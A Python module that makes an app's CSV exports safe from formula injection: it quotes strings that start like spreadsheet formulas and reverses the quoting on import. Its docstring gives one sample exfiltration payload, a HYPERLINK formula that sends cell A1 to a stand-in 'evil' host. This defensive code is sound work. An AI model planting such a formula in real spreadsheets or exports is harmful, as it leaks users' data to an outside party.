"""CSV that a spreadsheet opens as data, never as formulas (CSV / formula injection).

Every CSV Drumbeat writes goes through `writer()`. A string cell that a spreadsheet would read
as a formula, one beginning with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's rule),
is written with a single quote in front: a contact named `=HYPERLINK("http://evil/?"&A1,"x")`
comes out as `'=HYPERLINK(…)`, which spreadsheets show as text. So does a phone number in
E.164 (`'+15551234567`), which also keeps its `+`. Only strings are touched: numbers the app
writes (a count, a negative amount) stay numbers.

A string that already begins with quotes followed by such a character gets one quote more,
so that `unquote()` (applied by the CSV importer to every cell) gives back exactly the value
that was exported: importing an export changes nothing, and a cell typed as `'=1+1` is
imported as `=1+1`, as a spreadsheet would take it.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def _looks_like_formula(text: str) -> bool:
    """True when `text`, less any leading quotes, begins like a formula."""
    return text.lstrip("'").startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """The cell to write for `value`: a quote in front of a formula-like string."""
    if isinstance(value, str) and _looks_like_formula(value):
        return "'" + value
    return value


def unquote(text: str) -> str:
    """The value a neutralised cell stands for (the exact inverse of `neutralise` on strings)."""
    if text.startswith("'") and _looks_like_formula(text[1:]):
        return text[1:]
    return text


class SafeWriter:
    """csv.writer whose rows are neutralised cell by cell."""

    def __init__(self, out: _Writable, **fmt: Any) -> None:
        self._writer = csv.writer(out, **fmt)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **fmt: Any) -> SafeWriter:
    """The CSV writer of every export (same arguments as csv.writer)."""
    return SafeWriter(out, **fmt)
